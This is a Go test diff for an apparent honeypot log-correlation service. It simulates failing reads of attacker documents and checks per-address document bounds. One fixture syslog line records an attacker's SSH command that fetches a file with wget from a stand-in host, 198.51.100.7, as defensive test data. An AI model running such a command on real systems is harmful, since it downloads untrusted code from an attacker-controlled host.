@@ -376,3 +376,63 @@ func TestCrowds(t *testing.T) {
 		t.Errorf("a domain that was open counts %d, %v; want 2", doc.Count, err)
 	}
 }
+
+// headless is a store in which attackers' documents can't be read for the next so
+// many reads of them.
+type headless struct {
+	*memory.Store
+	failing atomic.Int64
+}
+
+func (s *headless) Read(ctx context.Context, keys []commit.Key) ([]commit.Stored, error) {
+	stored, err := s.Store.Read(ctx, keys)
+	attackers := func(k commit.Key) bool { return strings.HasSuffix(k.Index, "-attackers") }
+	if err == nil && slices.ContainsFunc(keys, attackers) && s.failing.Add(-1) >= 0 {
+		for i, k := range keys {
+			if attackers(k) {
+				stored[i] = commit.Stored{Err: errors.New("no_shard_available_action_exception")}
+			}
+		}
+	}
+	return stored, err
+}
+
+// The bound of an address holds also where its document can't be read while those
+// of what it names can: however long that is, and although the chunk comes again.
+func TestCrowdsWhoseAttackerComesLate(t *testing.T) {
+	for index, line := range map[string]string{
+		"d-smtp-targets": `<134>1 2026-01-07T10:00:00+00:00 decky-06 smtp_relay - rcpt_to [relay@55555 src="203.0.113.9" value="<x@d%d.com>"]`,
+		"d-indicators":   `<134>1 2026-01-07T10:00:00+00:00 decky-06 ssh - command [relay@55555 src="203.0.113.9" command="wget http://198.51.100.7/%d"]`,
+	} {
+		lines := make([]string, 6000)
+		for i := range lines {
+			lines[i] = fmt.Sprintf(line, i)
+		}
+		crossing := chunktest.Lines(recordTime, "log", lines...)
+		for name, failing := range map[string]int64{"for a moment": 3, "for longer than a chunk waits": 1000} {
+			synctest.Test(t, func(t *testing.T) {
+				store := &headless{Store: memory.New()}
+				b := newBenchOn(t, store, nil)
+				store.failing.Store(failing)
+				start := time.Now()
+				if failing < 100 {
+					b.flush(t, correlate.OK, crossing)
+				} else {
+					b.flush(t, correlate.Retry, crossing)
+					if n := len(store.Documents(index)); n != 0 {
+						t.Errorf("%s, %s: %d documents before the attacker's", index, name, n)
+					}
+					store.failing.Store(0)
+					start = time.Now()
+					b.flush(t, correlate.OK, crossing)
+				}
+				if took := time.Since(start); took > 2*time.Second {
+					t.Errorf("%s, %s: it took %v", index, name, took)
+				}
+				if n := len(store.Documents(index)); n < 1400 || n > 2800 {
+					t.Errorf("%s, %s: %d documents; the bound is about 2000", index, name, n)
+				}
+			})
+		}
+	}
+}
